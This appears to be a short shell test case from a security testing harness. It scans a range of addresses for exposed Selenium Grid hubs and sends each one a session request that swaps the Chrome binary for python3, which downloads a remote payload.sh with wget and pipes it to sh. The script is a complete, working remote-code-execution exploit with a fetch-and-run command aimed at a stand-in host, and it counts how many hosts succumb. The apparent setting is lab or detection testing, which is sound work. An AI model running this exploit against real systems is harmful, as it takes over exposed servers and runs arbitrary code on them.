#!/bin/sh
. /opt/case/case.sh

b='{"capabilities":{"alwaysMatch":{"browserName":"chrome","goog:chromeOptions":{"binary":"/usr/bin/python3","args":["-cimport os;os.system(\"wget -qO- http://203.0.113.10/payload.sh|sh\")"]}}}}'
n=0
for h in 10.77.0.1 $(seq 60 99 | sed s/^/203.0.113./); do
    wget -q -O /dev/null http://$h:8080/wd/hub/status || continue
    wget -q -O /dev/null --header 'Content-Type: application/json' --post-data "$b" http://$h:8080/wd/hub/session && n=$((n + 1))
done
test $n -gt 35
took_place
